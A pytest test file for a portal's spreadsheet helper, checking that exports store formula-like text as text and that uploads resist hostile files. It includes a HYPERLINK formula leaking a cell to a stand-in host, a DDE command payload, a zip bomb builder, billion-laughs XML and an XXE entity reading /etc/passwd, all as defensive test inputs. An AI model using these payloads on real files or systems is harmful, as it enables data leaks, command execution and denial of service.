"""The spreadsheet helper (portal.spreadsheets): exports that look alike and never
turn stored text into formulas or errors; uploads opened without unpacking a bomb
or parsing hostile XML."""

import io
import re
import struct
import tracemalloc
import zipfile
from datetime import date, datetime, time, timezone
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import openpyxl.xml
import pytest
from openpyxl import Workbook, load_workbook

import portal
from portal.rules import RuleViolation
from portal.spreadsheets import (
    ExportWorkbook, open_workbook_upload, percent, quantity, read_rows, text_cells, workbook_bytes,
)

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"打开")'


def read_back(data: bytes) -> list[tuple]:
    sheet = load_workbook(BytesIO(data)).worksheets[0]
    return [tuple((cell.value, cell.data_type) for cell in row) for row in sheet.iter_rows()]


def test_a_normal_workbook_keeps_formula_like_text_as_text():
    book = Workbook()
    book.active.append(["会议", HOSTILE, 12, "=1+1"])
    assert book.active["B1"].data_type == "f"  # what openpyxl makes of it on its own
    assert read_back(workbook_bytes(book)) == [(("会议", "s"), (HOSTILE, "s"), (12, "n"), ("=1+1", "s"))]


def test_a_write_only_workbook_keeps_formula_like_text_as_text():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("导出")
    sheet.append(text_cells(sheet, ["张三", HOSTILE, None, 3]))
    assert read_back(workbook_bytes(book)) == [(("张三", "s"), (HOSTILE, "s"), (None, "n"), (3, "n"))]


# ---------------------------------------------------------------- the export helper


def export_sheet(header, rows, **options):
    book = ExportWorkbook()
    book.sheet("导出", header, rows, **options)
    return load_workbook(BytesIO(book.to_bytes())).worksheets[0]


def test_the_header_is_bold_filled_and_frozen_and_columns_fit_their_content():
    sheet = export_sheet(["名称", "Amount"], [["人力资源和社会保障局", Decimal("1234567.5")], ["x", Decimal("1")]])
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b and cell.fill.fgColor.rgb.endswith("DDEBF7") for cell in sheet[1])
    # Ten Chinese characters need twenty columns (plus a margin); the money as shown, 1,234,567.50.
    assert sheet.column_dimensions["A"].width == 22
    assert sheet.column_dimensions["B"].width == len("1,234,567.50") + 2


def test_values_are_typed_cells_dates_in_local_wall_clock_time():
    utc = datetime(2026, 12, 2, 17, 30, tzinfo=timezone.utc)  # 01:30 the next day in Beijing
    sheet = export_sheet(
        ["when", "day", "at", "money", "kWh", "share", "count"],
        [[utc, date(2026, 12, 3), time(8, 30), Decimal("-285.2"), quantity(Decimal("12.5")),
          percent(Decimal("12.5")), 7]],
    )
    when, day, at, money, kwh, share, count = sheet[2]
    assert when.value == datetime(2026, 12, 3, 1, 30) and when.number_format == "yyyy-mm-dd hh:mm"
    assert day.value == datetime(2026, 12, 3) and day.number_format == "yyyy-mm-dd"
    assert at.value == time(8, 30) and at.number_format == "hh:mm"
    assert money.value == -285.2 and money.number_format == "#,##0.00"
    assert kwh.value == 12.5 and kwh.number_format == "0.00"
    assert share.value == pytest.approx(0.125) and share.number_format == "0.0%"
    assert count.value == 7 and count.number_format == "General"
    assert sheet.column_dimensions["A"].width >= len("2026-12-03 01:30")  # no ### in LibreOffice


def test_stored_control_characters_never_break_an_export():
    sheet = export_sheet(["spot"], [["东\x1b侧\x00走廊\x07"], ["=cmd|' /C calc'!A0\x1b"]])
    assert [sheet["A2"].value, sheet["A3"].value] == ["东侧走廊", "=cmd|' /C calc'!A0"]
    assert sheet["A3"].data_type == "s"


def test_text_cells_drops_control_characters_too():
    book = Workbook(write_only=True)
    sheet = book.create_sheet("x")
    sheet.append(text_cells(sheet, ["a\x1bb", "=\x1b1+1"]))
    assert read_back(workbook_bytes(book)) == [(("ab", "s"), ("=1+1", "s"))]


def test_a_long_sheet_streams_and_keeps_its_frozen_header_and_widths():
    sheet = export_sheet(["No.", "名称"], ([n, "办公室"] for n in range(2000)))
    assert sheet.max_row == 2001 and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["B"].width == 8


def test_caption_rows_above_the_header_freeze_below_the_header():
    book = ExportWorkbook()
    book.sheet("x", ["A", "B"], [[1, 2]], caption="2026 年对比")
    sheet = load_workbook(BytesIO(book.to_bytes())).worksheets[0]
    assert sheet.freeze_panes == "A3" and sheet["A1"].font.b and sheet["A2"].font.b


# ---------------------------------------------------------------- uploads


SHEET = "xl/worksheets/sheet1.xml"


def good_workbook() -> bytes:
    book = Workbook()
    book.active.append(["表计编号", "本月读数"])
    book.active.append(["E-000", 12.5])
    out = BytesIO()
    book.save(out)
    return out.getvalue()


def replaced(members: dict[str, bytes | None], *, inflate: tuple[str, int] | None = None) -> bytes:
    """The good workbook with members replaced (None: removed), and optionally a member of
    ``n`` MB of repeated bytes written as a stream (never held in memory)."""
    source = zipfile.ZipFile(BytesIO(good_workbook()))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename in members:
                if members[info.filename] is not None:
                    target.writestr(info.filename, members[info.filename])
            elif not inflate or info.filename != inflate[0]:
                target.writestr(info.filename, source.read(info.filename))
        for name, content in members.items():
            if content is not None and name not in source.namelist():
                target.writestr(name, content)
        if inflate:
            name, megabytes = inflate
            chunk = b"<row>" + b"0" * (1024 * 1024 - 11) + b"</row>"
            with target.open(name, "w", force_zip64=True) as stream:
                for _ in range(megabytes):
                    stream.write(chunk)
    return out.getvalue()


def refusal(data: bytes) -> RuleViolation:
    with pytest.raises(RuleViolation) as caught:
        open_workbook_upload(data)
    return caught.value


def test_openpyxl_parses_xml_with_defusedxml():
    assert openpyxl.xml.DEFUSEDXML is True


def test_a_good_upload_opens_read_only_and_its_rows_are_read():
    book = open_workbook_upload(io.BytesIO(good_workbook()))
    assert book.read_only
    assert list(read_rows(book.worksheets[0])) == [("表计编号", "本月读数"), ("E-000", 12.5)]


def test_a_zip_bomb_is_refused_before_anything_is_unpacked():
    bomb = replaced({}, inflate=(SHEET, 200))  # 200 MB of sheet XML in a few hundred KB
    assert len(bomb) < 1024 * 1024
    tracemalloc.start()
    try:
        error = refusal(bomb)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.status == 413 and "too large once unpacked" in str(error)
    assert peak < 5 * 1024 * 1024


def test_a_member_that_packs_too_well_is_refused_even_under_the_total():
    error = refusal(replaced({}, inflate=("xl/sharedStrings.xml", 20)))
    assert error.status == 413


def test_a_zip_that_lies_about_a_members_size_cannot_make_it_larger():
    bomb = bytearray(replaced({}, inflate=(SHEET, 20)))
    # Write a small unpacked size (1 000 bytes) for the sheet into the zip's directory:
    # it passes the size checks, and reading it stops there (a checksum error).
    entry = bomb.index(b"PK\x01\x02")
    while True:
        name_length = struct.unpack_from("<H", bomb, entry + 28)[0]
        if bomb[entry + 46: entry + 46 + name_length] == SHEET.encode():
            break
        entry = bomb.index(b"PK\x01\x02", entry + 4)
    assert struct.unpack_from("<I", bomb, entry + 24)[0] == 20 * 1024 * 1024
    struct.pack_into("<I", bomb, entry + 24, 1000)
    assert zipfile.ZipFile(BytesIO(bytes(bomb))).getinfo(SHEET).file_size == 1000
    tracemalloc.start()
    try:
        error = refusal(bytes(bomb))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert error.status == 422 and "CRC" in str(error.__cause__)
    assert peak < 5 * 1024 * 1024


def test_too_many_members_are_refused():
    assert refusal(replaced({f"xl/media/{n}.png": b"x" for n in range(1001)})).status == 422


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(b'<!ENTITY lol%d "%s">' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10) for n in range(1, 10))
    + b']><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1">'
    b"<si><t>&lol9;</t></si></sst>"
)
EXTERNAL = (
    b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>'
)


@pytest.mark.parametrize(
    "members",
    [
        {"xl/sharedStrings.xml": LAUGHS},
        {SHEET: LAUGHS.replace(b"<sst", b"<worksheet").replace(b"</sst>", b"</worksheet>")},
        {"xl/sharedStrings.xml": EXTERNAL},
        {"xl/workbook.xml": EXTERNAL},
        {SHEET: b'<?xml version="1.0"?><worksheet><sheetData><row r="1"><c r="A1"'},
        {"[Content_Types].xml": None},
        {"xl/workbook.xml": b"<workbook/>"},
    ],
    ids=["billion-laughs-strings", "billion-laughs-sheet", "external-entity", "external-entity-workbook",
         "truncated-xml", "no-content-types", "empty-workbook"],
)
def test_malformed_or_hostile_xml_gets_a_clear_message(members):
    error = refusal(replaced(members))
    assert error.status == 422 and "not an Excel workbook" in str(error)


def test_not_a_zip_at_all():
    assert refusal(b"a,b\n1,2\n").status == 422


def test_a_cell_openpyxl_cannot_read_is_a_rule_violation_while_reading_rows():
    source = zipfile.ZipFile(BytesIO(good_workbook())).read(SHEET)
    broken = source.replace(b"<v>12.5</v>", b"<v>not a number</v>")
    assert broken != source
    book = open_workbook_upload(replaced({SHEET: broken}))
    with pytest.raises(RuleViolation):
        list(read_rows(book.worksheets[0]))


def test_rows_are_read_at_most_so_wide():
    book = Workbook()
    book.active.append(["a"])
    book.active.cell(row=1, column=16000, value="far")
    out = BytesIO()
    book.save(out)
    rows = list(read_rows(open_workbook_upload(out.getvalue()).worksheets[0]))
    assert rows == [("a",) + (None,) * 63]


def test_a_sheet_title_excel_would_refuse_is_made_acceptable():
    book = ExportWorkbook()
    book.sheet("2026/12: [会议]?*" + "长" * 40, ["A"], [[1]])
    title = load_workbook(BytesIO(book.to_bytes())).worksheets[0].title
    assert title.startswith("2026_12_ _会议___长") and len(title) == 31


def test_workbooks_are_made_and_read_only_through_the_helper():
    """Every export and import goes through portal.spreadsheets (one look, one hardened reader)."""
    root = Path(portal.__file__).parent
    uses_openpyxl = re.compile(r"^\s*(?:from|import) openpyxl\b", re.MULTILINE)
    direct = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheets.py" and uses_openpyxl.search(path.read_text(encoding="utf-8"))
    ]
    assert direct == []
